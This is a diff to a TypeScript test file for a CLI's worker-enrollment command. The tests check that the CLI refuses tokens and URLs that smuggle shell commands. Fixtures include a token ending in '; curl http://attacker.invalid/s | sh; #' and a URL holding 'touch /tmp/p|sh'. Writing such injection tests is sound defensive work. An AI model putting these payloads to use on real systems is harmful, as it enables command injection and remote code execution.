@@ -249,27 +249,38 @@ describe('archive include refuses at once, before copying anything', () => {
     await rm(out, { recursive: true, force: true });
   });
 
-  it('prints no command to run with a worker token the queue did not make (the answer is the queue user\'s to write)', async () => {
-    const requests = join(root, 'state', 'requests');
-    // Requests earlier tests left there (no queue runs here) are not this one.
-    const earlier = new Set(await readdir(requests).catch(() => [] as string[]));
-    const adding = execa('node', [CLI, '--root', root, 'workers', 'add', 'far-box', '--timeout', '20'], { reject: false, all: true });
-    let id: string | undefined;
-    for (let i = 0; i < 200 && !id; i++) {
-      id = (await readdir(requests).catch(() => [] as string[])).find((n) => n.endsWith('.request.json') && !earlier.has(n))?.replace(/\.request\.json$/, '');
-      if (!id) await new Promise((r) => setTimeout(r, 50));
-    }
-    expect(id).toBeDefined();
-    const answer = join(requests, `${id}.answer.json`);
-    const token = `aibw1.far-box.${'a'.repeat(64)}; curl http://attacker.invalid/s | sh; #`;
-    await writeFile(`${answer}.tmp`, JSON.stringify({ ok: true, message: 'worker far-box enrolled', worker: { token } }));
-    const owner = await stat(root);
-    await chown(`${answer}.tmp`, owner.uid, owner.gid);
-    await rename(`${answer}.tmp`, answer);
-    const r = await adding;
+  it('prints no command to run with a worker token the queue did not make (the answer is the queue user\'s to write), nor with a URL a shell line cannot carry', async () => {
+    /** workers add with `args`, answered as the queue (the root's owner) with this token. */
+    const addAnswered = async (args: string[], token: string) => {
+      const requests = join(root, 'state', 'requests');
+      // Requests earlier tests left there (no queue runs here) are not this one.
+      const earlier = new Set(await readdir(requests).catch(() => [] as string[]));
+      const adding = execa('node', [CLI, '--root', root, 'workers', 'add', 'far-box', '--timeout', '20', ...args], { reject: false, all: true });
+      let id: string | undefined;
+      for (let i = 0; i < 200 && !id; i++) {
+        id = (await readdir(requests).catch(() => [] as string[])).find((n) => n.endsWith('.request.json') && !earlier.has(n))?.replace(/\.request\.json$/, '');
+        if (!id) await new Promise((r) => setTimeout(r, 50));
+      }
+      expect(id).toBeDefined();
+      const answer = join(requests, `${id}.answer.json`);
+      await writeFile(`${answer}.tmp`, JSON.stringify({ ok: true, message: 'worker far-box enrolled', worker: { token } }));
+      const owner = await stat(root);
+      await chown(`${answer}.tmp`, owner.uid, owner.gid);
+      await rename(`${answer}.tmp`, answer);
+      return adding;
+    };
+    const r = await addAnswered([], `aibw1.far-box.${'a'.repeat(64)}; curl http://attacker.invalid/s | sh; #`);
     expect(r.exitCode, String(r.all)).toBe(2);
     expect(r.stderr).toContain('the queue answered a token that is not one it makes for worker far-box; nothing printed to run');
     expect(r.all).not.toContain('curl');
+    // With HTTPS the URL's host is the certificate's first name, from a file the queue's user
+    // names: refused before the worker is enrolled (its token would be shown nowhere).
+    const before = await readdir(join(root, 'state', 'requests')).catch(() => [] as string[]);
+    const url = await execa('node', [CLI, '--root', root, 'workers', 'add', 'far-box', '--timeout', '20', '--url', 'https://a;touch /tmp/p|sh:8443/'], { reject: false, all: true });
+    expect(url.exitCode, String(url.all)).toBe(2);
+    expect(url.stderr).toContain('holds characters a shell line cannot carry as they are; give one with --url');
+    expect(url.stdout).not.toContain('touch');
+    expect(await readdir(join(root, 'state', 'requests')).catch(() => [] as string[])).toEqual(before);
   });
 
   it('shows the control characters of what the state holds in workers ls and wait, rather than sending them to the terminal', async () => {
